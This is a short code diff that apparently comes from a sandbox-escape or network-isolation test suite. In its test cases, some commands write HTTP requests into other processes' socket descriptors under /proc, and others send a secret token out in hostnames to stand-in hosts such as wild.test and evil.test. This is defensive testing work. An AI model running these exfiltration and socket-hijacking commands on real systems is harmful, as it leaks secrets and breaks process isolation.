@@ -741,7 +741,7 @@ const sockets = group(
     {
       name: "descriptors of other processes",
       container: ({ world: { internet } }) =>
-        `ls -l /proc/[0-9]*/fd | grep -c socket; for f in /proc/[0-9]*/fd/*; do printf 'GET ${plain(internet, "neighbour.test")}/x HTTP/1.1\\r\\n\\r\\n' > $f; done 2>/dev/null; python3 - <<'PY'
+        `ls -l /proc/[0-9]*/fd | grep -c socket; for f in /proc/[0-9]*/fd/{3..40}; do printf 'GET ${plain(internet, "neighbour.test")}/x HTTP/1.1\\r\\n\\r\\n' > $f; done 2>/dev/null; python3 - <<'PY'
 import ctypes, os
 libc = ctypes.CDLL(None, use_errno=True)
 for pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:
@@ -957,10 +957,7 @@ curl -sS -m 3 http://claw_secret_TOKEN.wild.test:${internet.port}/echo`,
     }),
     told("in a host's name", (internet) => [
       get(`http://${internet.spilled}.wild.test:${internet.port}/`),
-      get(`http://${Buffer.from(internet.spilled).toString("hex").slice(0, 60)}.wild.test:${internet.port}/`).replace(
-        Buffer.from(internet.spilled).toString("hex").slice(0, 60),
-        internet.spilled.toUpperCase()
-      ),
+      get(`http://${internet.spilled.toUpperCase()}.wild.test:${internet.port}/`),
       connectTo(`${internet.spilled}.wild.test:${internet.securePort}`),
       connectTo(`${internet.spilled}.evil.test:${internet.securePort}`)
     ])
